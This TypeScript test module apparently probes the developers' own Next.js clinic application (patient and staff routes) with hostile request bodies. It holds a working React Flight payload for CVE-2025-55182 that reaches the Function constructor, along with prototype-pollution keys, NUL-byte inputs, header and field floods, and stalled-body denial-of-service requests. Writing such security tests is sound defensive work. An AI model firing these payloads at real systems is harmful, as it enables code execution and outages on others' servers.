import { type Attack, parts, some } from "./attack";
import { headerOf, inChunks, type Shot } from "./shot";
import type { Route, Target } from "./target";

const FORM = { "content-type": "application/x-www-form-urlencoded" };
const PARTS = { "content-type": "multipart/form-data; boundary=x" };
const OURS = { "sec-fetch-site": "same-origin" };

/** The addresses that take forms, each with who may post there. */
function forms({ routes, cookies }: Target, short: boolean): Shot[] {
  const patients = routes.filter(({ kind, path }) => kind === "patient" && path.startsWith("/en"));
  const staff = routes.filter(({ kind }) => kind !== "patient");
  const post = ({ path }: Route, cookie: string): Shot => ({
    path,
    method: "POST",
    headers: { ...OURS, cookie },
  });
  return [
    ...some(patients, short, 8).map((route) => post(route, cookies.patient)),
    ...some(staff, short, 8).map((route) => post(route, cookies.clinician)),
    ...["signin/credentials", "callback/credentials", "signout", "_log"].map((name) =>
      post({ path: `/api/auth/${name}`, kind: "data" }, ""),
    ),
  ];
}

/** An action of staff that is called with this body. */
const call = ({ actions, cookies }: Target, type: Record<string, string>, body: string): Shot => ({
  path: actions[0]?.path ?? "",
  method: "POST",
  headers: { ...OURS, ...type, cookie: cookies.clinician, "next-action": actions[0]?.id ?? "" },
  body,
});

const withBody = (
  shots: Shot[],
  headers: Record<string, string>,
  body: string,
  more = {},
): Shot[] =>
  shots.map((shot) => ({ ...shot, ...more, headers: { ...shot.headers, ...headers }, body }));

const LONG = `a=${"a".repeat(130_000)}`;
const NUL_FORM = "%00=a&a=b%00c&of=%00&csrfToken=%00&email=%00&callbackUrl=%00";

const KEYS = [
  "__proto__",
  "__proto__[x]",
  "constructor[prototype][x]",
  "prototype",
  "toString",
  "then",
];
const POLLUTING = KEYS.map((key) => `${key}=POLLUTED7`).join("&");

/** What React 19 took for a promise of its own before it was mended (CVE-2025-55182). */
const FLIGHT = parts([
  [
    "0",
    `{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B7\\"}","_response":{"_prefix":"throw Object.assign(new Error('NEXT_REDIRECT'),{digest:'NEXT_REDIRECT;push;/POLLUTED7;307;'})//","_formData":{"get":"$1:constructor:constructor"}}}`,
  ],
  ["1", `"$@0"`],
]);

export const bodyAttacks: readonly Attack[] = [
  {
    name: "bodies over the limit, in chunks, or of another length than they say",
    proves: /answered 5/,
    shots: (target, short) => {
      const all = forms(target, short);
      return [
        ...withBody(all, FORM, LONG, { mayCut: true }),
        ...withBody(all, { ...FORM, "transfer-encoding": "chunked" }, inChunks(LONG), {
          mayCut: true,
        }),
        ...withBody(all, { ...FORM, "content-length": "3" }, "a=bc&d=e", { mayCut: true }),
        ...withBody(some(all, short, 2), { ...PARTS, "content-length": "x" }, "a", {
          mayCut: true,
        }),
        call(target, PARTS, parts([["0", "a".repeat(130_000)]])),
      ].map((shot) => ({ ...shot, mayCut: true }));
    },
  },
  {
    name: "the character NUL",
    proves: /answered 5/,
    shots: (target, short) => [
      ...withBody(forms(target, short), FORM, NUL_FORM),
      ...withBody(
        forms(target, short),
        PARTS,
        parts([
          ["a\0", "b\0"],
          ["0", `["$K1"]\0`],
        ]),
      ),
      ...some(target.routes, short, 20).map(
        ({ path }): Shot => ({ path: `${path}?q=%00&next=%00&page=%00` }),
      ),
      ...["/%00", "/en/%00", "/staff/%00", "/at/%00", "/feed/%00", "/staff/intakes/%00"].map(
        (path): Shot => ({ path }),
      ),
      call(
        target,
        PARTS,
        parts([
          ["_1_name", "a\0"],
          ["0", `[{"status":"idle"},"$K1"]`],
        ]),
      ),
      call(target, { "content-type": "text/plain" }, `["\\u0000"]`),
    ],
  },
  {
    name: "bodies of another kind, and broken ones",
    proves: /answered 5/,
    shots: (target, short) => {
      const all = forms(target, short);
      return [
        ...withBody(all, { "content-type": "application/json" }, `{"a":[{"b":`),
        ...withBody(all, PARTS, "--x\r\nContent-Disposition: form-data\r\n\r\n--y", {
          mayCut: true,
        }),
        ...withBody(all, { "content-type": "multipart/form-data" }, "a", { mayCut: true }),
        ...withBody(all, {}, "a=b"),
        ...withBody(some(all, short), { ...FORM, "content-encoding": "gzip" }, "a=b"),
        ...[
          `["$F1"]`,
          `["$Q1"]`,
          `["$@1"]`,
          "[",
          `{"0":1}`,
          `["$K1"]`,
          `"$undefined"`,
          `[[[[[["$0"]]]]]]`,
        ].flatMap((text) => [
          call(target, { "content-type": "text/plain" }, text),
          call(target, PARTS, parts([["0", text]])),
        ]),
      ];
    },
  },
  {
    name: "keys of prototypes",
    proves: /POLLUTED7 was run/,
    shots: (target, short) => [
      ...withBody(forms(target, short), FORM, POLLUTING),
      ...some(target.routes, short, 20).map(({ path }): Shot => ({ path: `${path}?${POLLUTING}` })),
      call(target, { "content-type": "text/plain" }, `[{"__proto__":{"x":"POLLUTED7"}}]`),
      call(target, PARTS, FLIGHT),
    ],
    look: (shot, answer) => {
      const ran =
        headerOf(answer, "x-action-redirect") +
        new URL(headerOf(answer, "location"), "http://x").pathname;
      return ran.includes("POLLUTED7") && !shot.path.includes("next=") ? ["POLLUTED7 was run"] : [];
    },
  },
  {
    name: "thousands of fields, parameters, cookies and header lines",
    proves: /answered 5/,
    shots: (target, short) => {
      const many = Array.from({ length: 6000 }, (_, n) => `f${n}=1`);
      const [few, lines] = [
        many.slice(0, 900).join("&"),
        many.slice(0, 900).map((each) => each.slice(0, 6)),
      ];
      const manyLines = Object.fromEntries(lines.slice(0, 300).map((each, n) => [`x-${n}`, each]));
      return [
        ...withBody(some(forms(target, short), short, 8), FORM, many.join("&")),
        call(target, PARTS, parts(many.slice(0, 900).map((each) => [each, "1"]))),
        ...some(target.routes, short, 12).flatMap(({ path }): Shot[] => [
          { path: `${path}?${few}` },
          { path, headers: { cookie: many.slice(0, 700).join("; ") } },
          { path, headers: manyLines },
          { path, headers: { "x-long": "a".repeat(20_000) }, mayCut: true },
        ]),
      ];
    },
  },
  {
    name: "bodies that never end",
    proves: /no answer/,
    shots: ({ cookies }, short) => {
      const slow = { ...FORM, ...OURS, "content-length": "9999" };
      const to = ["/en/intake/about", "/staff", "/api/auth/callback/credentials", "/staff/session"];
      return some(to, short, 2).map((path) => ({
        ...{ path, method: "POST", stalls: true, body: "a=" },
        headers: { ...slow, cookie: cookies.clinician },
      }));
    },
  },
];
